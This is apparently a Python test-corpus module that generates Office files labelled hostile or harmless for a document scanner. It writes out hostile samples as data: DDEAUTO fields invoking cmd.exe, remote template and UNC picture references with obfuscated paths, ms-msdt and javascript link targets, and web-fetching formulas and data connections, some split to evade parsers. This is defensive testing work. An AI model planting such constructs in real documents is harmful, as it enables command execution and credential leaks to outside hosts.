"""Office files that different programs read differently, or that fetch something without a relationship."""

from tests.documents.corpus import CorpusFile
from tests.documents.corpus.office import RELATIONS, SHEET, WORD, XML, docx, field, formula, story, xlsx


def hostile():
    yield from read_in_two_ways()
    yield from named_directly()


def harmless():
    yield CorpusFile("two attributes of one name", "a.docx", foreign('<w:hyperlink w:id="1" x:id="2"/>'))
    yield CorpusFile("two attributes of one name, neither judged", "a.docx", foreign('<w:p w:rsidR="1" x:rsidR="2"/>'))
    yield CorpusFile(
        "drawn from the file itself", "a.docx", foreign('<w:pict><v:imagedata src="media/a.png"/></w:pict>')
    )
    own = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\\\Users\\\\sec\\\\pupils.mdb"
    settings = (
        f'{XML}<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="{own}"/></w:mailMerge></w:settings>'
    )
    yield CorpusFile("letters to people of the author's own disk", "a.docx", docx(more={"word/settings.xml": settings}))
    space = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
    reference = '<we:reference id="wa104" version="1" store="en-GB" storeType="OMEX"/>'
    added = f'{XML}<we:webextension xmlns:we="{space}" id="a">{reference}</we:webextension>'
    yield CorpusFile("add-in of the store", "a.docx", docx(more={"word/webextensions/w.xml": added}))


def foreign(inside):
    """Write a document with elements in the namespace x, which Word ignores."""
    spaces = (
        f'xmlns:w="{WORD}" xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:v="urn:schemas-microsoft-com:vml" mc:Ignorable="x"'
    )
    return docx(f"{XML}<w:document {spaces}><w:body><w:p>{inside}</w:p></w:body></w:document>")


def related_as(attributes):
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    row = f'<Relationship Id="r1" {attributes}/>'
    return docx(
        more={
            "word/_rels/document.xml.rels": f'{XML}<Relationships xmlns="{space}" xmlns:x="urn:x">{row}</Relationships>'
        }
    )


def read_in_two_ways():
    """Yield files that different programs read differently, where one of the readings is harmful."""
    damaged, dde, remote = "damaged", "another program (DDE)", "from somewhere else"
    command, template = "DDEAUTO c:\\\\cmd.exe", f'Type="{RELATIONS}attachedTemplate"'
    outside = 'Target="https://x.example/t.dotm" TargetMode="External"'
    for order in ("after", "before"):
        pair = [f'w:instr="{command}"', 'x:instr="PAGE"']
        simple = " ".join(pair if order == "after" else pair[::-1])
        yield CorpusFile(f"field with another {order} it", "a.docx", foreign(f"<w:fldSimple {simple}/>"), damaged)
        for name, other in (("Target", "a"), ("Type", "hyperlink"), ("TargetMode", "Internal")):
            pair = [f"{template} {outside}", f'x:{name}="{other}"']
            both = " ".join(pair if order == "after" else pair[::-1])
            yield CorpusFile(f"relation with another {name} {order} it", "a.docx", related_as(both), damaged)
    for title, words in (("an element", "D<x:a/>DEAUTO cmd"), ("other words", "D<x:a>zz</x:a>DEAUTO cmd")):
        yield CorpusFile(f"field with {title} within", "a.docx", foreign(field(words)), damaged)
    within = 'WEB<x:y xmlns:x="urn:x">q</x:y>SERVICE("https://x.example")'
    yield CorpusFile("formula with an element within", "a.xlsx", xlsx(formula(within)), damaged)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    endless = f"{begin}<w:r><w:instrText>{command}</w:instrText></w:r>"
    yield CorpusFile("field without an end", "a.docx", foreign(endless), dde)
    deleted = field(command).replace("instrText", "delInstrText")
    yield CorpusFile("field that comes back when its deletion is refused", "a.docx", foreign(deleted), dde)
    for target in (
        "/\\x.example\\t.dotm", "\\/x.example/t.dotm", "\\\\?\\UNC\\x.example\\t.dotm", "ht&#10;tps://x.example/t.dotm",
        "&#160;https://x.example/t.dotm", "%5C%5Cx.example%5Ct.dotm", "file:%5C%5Cx.example",
    ):  # fmt: skip
        attributes = f'{template} Target="{target}" TargetMode="External"'
        yield CorpusFile(f"template at {target}", "a.docx", related_as(attributes), remote)
    for target in ("java&#9;script:alert(1)", "ms-&#10;msdt:/id", "mk:@MSITStore:a", "script:https://x.example"):
        attributes = f'Type="{RELATIONS}hyperlink" Target="{target}" TargetMode="External"'
        yield CorpusFile(f"program as the link {target}", "a.docx", related_as(attributes), remote)
    for path in ("\\\\\\\\?\\\\UNC\\\\x.example\\\\a.png", "\\\\\\\\[::1]\\\\x\\\\a.png", "\\/x.example/a.png"):
        yield CorpusFile(
            f"picture by a field from {path}", "a.docx", docx(story(field(f'INCLUDEPICTURE "{path}"'))), remote
        )


def named_directly():
    """Yield files with an external URL in a part, but not in the relationships."""
    remote, links = "from somewhere else", "gets data from other files"
    for element in ('imagedata src="https://x.example/a.png"', 'fill src="\\\\x.example\\a.png"'):
        yield CorpusFile(
            f"drawn: {element}", "a.docx", foreign(f"<w:pict><v:shape><v:{element}/></v:shape></w:pict>"), remote
        )
    merge = '<w:mailMerge><w:connectString w:val="Provider=a;Data Source=\\\\x.example\\a.mdb"/></w:mailMerge>'
    settings = f'{XML}<w:settings xmlns:w="{WORD}">{merge}</w:settings>'
    yield CorpusFile(
        "letters to people of another machine", "a.docx", docx(more={"word/settings.xml": settings}), remote
    )
    space = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
    reference = '<we:reference id="a" version="1" store="\\\\x.example\\a" storeType="FileSystem"/>'
    added = f'{XML}<we:webextension xmlns:we="{space}" id="a">{reference}</we:webextension>'
    yield CorpusFile("add-in of another machine", "a.docx", docx(more={"word/webextensions/w.xml": added}), remote)
    newer = "http://schemas.microsoft.com/office/spreadsheetml/2010/11/main"
    for title, attributes, inside in (
        ("of a provider", "", '<y:oledbPr connection="Provider=SQLOLEDB;Data Source=x"/>'),
        ("of a feed", "", '<y:dataFeedPr connection="DATASERVICEURL=https://x.example"/>'),
        ("by a file of the web", 'odcFile="https://x.example/a.odc"', ""),
        ("by a file of a share", 'sourceFile="\\\\x.example\\a.mdb"', ""),
    ):
        rows = f'<connections xmlns="{SHEET}" xmlns:y="{newer}"><connection id="1" {attributes}>{inside}</connection>'
        more = {"xl/connections.xml": f"{XML}{rows}</connections>"}
        yield CorpusFile(f"data {title}", "a.xlsx", xlsx(more=more), links)
    for words in ('SQL.REQUEST("DSN=a")', 'IMPORTXML("https://x.example","a")', 'IMPORTDATA("https://x.example")'):
        yield CorpusFile(f"formula {words[:12]}", "a.xlsx", xlsx(formula(words)), links)
